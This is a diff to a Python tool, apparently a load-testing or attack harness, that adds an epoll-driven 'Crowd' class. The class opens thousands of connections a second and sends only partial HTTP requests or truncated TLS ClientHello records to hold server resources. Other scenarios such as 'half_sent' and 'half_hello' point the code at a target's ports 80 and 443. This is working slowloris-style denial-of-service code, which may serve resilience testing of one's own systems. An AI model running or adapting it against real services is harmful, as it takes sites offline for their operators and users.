@@ -16,6 +16,7 @@ import itertools
 import json
 import re
 import resource
+import select
 import socket
 import ssl
 import sys
@@ -24,7 +25,7 @@ from collections import Counter
 from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Iterator
 from contextlib import suppress
 from dataclasses import dataclass, field
-from typing import Any
+from typing import Any, Self
 
 from hpack import Encoder, NeverIndexedHeaderTuple
 
@@ -327,19 +328,17 @@ class Attacker:
         finally:
             idle.append(line) if stays else self.close(line)
 
-    async def hold(
-        self, count: int, rate: float, opening: bytes, *, port: int = 443, tls: bool = True, trickle: bytes = b""
-    ) -> None:
+    async def hold(self, count: int, rate: float, opening: bytes, *, trickle: bytes = b"") -> None:
         """Keep connections open on which requests are begun and never ended; a closed one is replaced.
 
         Where there is something to trickle, a byte of it follows each second.
         """
         async for _ in self.times(rate, count):
-            self.spawn(self.held(opening, port, tls, trickle))
+            self.spawn(self.held(opening, trickle))
 
-    async def held(self, opening: bytes, port: int, tls: bool, trickle: bytes) -> None:
+    async def held(self, opening: bytes, trickle: bytes) -> None:
         """Be one of them."""
-        if (line := await self.open(port, tls=tls)) is None:
+        if (line := await self.open()) is None:
             return
         try:
             await self.say(line, opening)
@@ -366,6 +365,24 @@ class Attacker:
                 self.sent.answers[found[1].decode()] += 1
                 return
         self.sent.answers["closed"] += 1
+
+    async def crowd(self, count: int, rate: float, opening: bytes, port: int) -> None:
+        """Keep connections open, as `hold` does, but without TLS and with nothing to trickle: thousands a second.
+
+        A task for each of them would take longer than the site takes to refuse it.
+        """
+        with Crowd(self.sent, (self.address, self.ports[port]), opening) as crowd:
+            began, opened = time.monotonic(), 0
+            while self.going:
+                now = time.monotonic()
+                new = max(0, min(int(rate * (now - began)) - opened, count - len(crowd.peers)))
+                opened += new
+                crowd.open(new, now)
+                crowd.look(now)
+                if opened < rate * (now - began):
+                    # What could not be opened, because all are, is not made up for.
+                    opened = int(rate * (now - began))
+                await asyncio.sleep(0.002)
 
     async def deaf(self, connections: int, request: bytes, count: int) -> None:
         """Ask over and over and read nothing, with the smallest window that there is."""
@@ -443,6 +460,81 @@ class Attacker:
             fields += [("content-type", "application/json"), ("content-length", str(len(body)))]
         # Of a header that is never to be indexed no table has to know.
         return Encoder().encode([NeverIndexedHeaderTuple(*each) for each in fields])
+
+
+class Crowd:
+    """Many connections on which nothing more is said than the opening."""
+
+    def __init__(self, sent: Sent, address: tuple[str, int], opening: bytes) -> None:
+        """Take where to count, where to connect, and what to say."""
+        self.sent, self.address, self.opening = sent, address, opening
+        self.peers: dict[int, socket.socket] = {}
+        self.connecting: dict[int, float] = {}
+        """Since when; the oldest comes first."""
+
+    def __enter__(self) -> Self:
+        """Begin without any."""
+        self.poll = select.epoll()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        """Hang all of them up."""
+        self.sent.answers["held to the end"] += len(self.peers) - len(self.connecting)
+        self.sent.answers["no connection until the end"] += len(self.connecting)
+        self.sent.answers = +self.sent.answers
+        for peer in self.peers.values():
+            peer.close()
+        self.poll.close()
+
+    def open(self, count: int, now: float) -> None:
+        """Begin to connect so many."""
+        for _ in range(count):
+            peer = socket.socket()
+            peer.setblocking(False)
+            peer.connect_ex(self.address)
+            self.peers[peer.fileno()] = peer
+            self.connecting[peer.fileno()] = now
+            self.poll.register(peer, select.EPOLLOUT)
+
+    def look(self, now: float) -> None:
+        """See what has become of them: connected, answered, closed, or neither for too long."""
+        for fd, _ in self.poll.poll(0, OUTSTANDING):
+            if fd in self.connecting:
+                self.connected(fd)
+            else:
+                self.answered(fd)
+        while self.connecting and now - next(iter(self.connecting.values())) > CONNECT:
+            self.drop(next(iter(self.connecting)), "no connection: timeout")
+
+    def connected(self, fd: int) -> None:
+        """Say the opening, or learn that there is no connection."""
+        if code := self.peers[fd].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+            self.drop(fd, f"no connection: {reason(OSError(code, ''))}")
+            return
+        del self.connecting[fd]
+        self.sent.connections += 1
+        self.sent.held = max(self.sent.held, len(self.peers) - len(self.connecting))
+        self.poll.modify(fd, select.EPOLLIN)
+        try:
+            self.sent.bytes += self.peers[fd].send(self.opening)
+            self.sent.requests += 1
+        except OSError as error:
+            self.drop(fd, reason(error))
+
+    def answered(self, fd: int) -> None:
+        """Learn what came back."""
+        try:
+            found = STATUS.search(self.peers[fd].recv(4096))
+            self.drop(fd, found[1].decode() if found else "closed")
+        except OSError as error:
+            self.drop(fd, reason(error))
+
+    def drop(self, fd: int, answer: str) -> None:
+        """Hang one of them up; count why."""
+        self.sent.answers[answer] += 1
+        self.connecting.pop(fd, None)
+        self.poll.unregister(fd)
+        self.peers.pop(fd).close()
 
 
 def rows(count: int) -> bytes:
@@ -575,12 +667,12 @@ def failed_logins(attacker: Attacker) -> Awaitable[None]:
 
 def half_sent(attacker: Attacker) -> Awaitable[None]:
     opening = f"GET /predict HTTP/1.1\r\nHost: {attacker.name}\r\n".encode()
-    return attacker.hold(MOST, 2000, opening, port=80, tls=False)
+    return attacker.crowd(MOST, 5000, opening, 80)
 
 
 def half_hello(attacker: Attacker) -> Awaitable[None]:
     # The head of a record of TLS, and the first bytes of the ClientHello that it promises.
-    return attacker.hold(MOST, 2000, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", tls=False)
+    return attacker.crowd(MOST, 5000, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 443)
 
 
 def half_sent_within_tls(attacker: Attacker) -> Awaitable[None]:
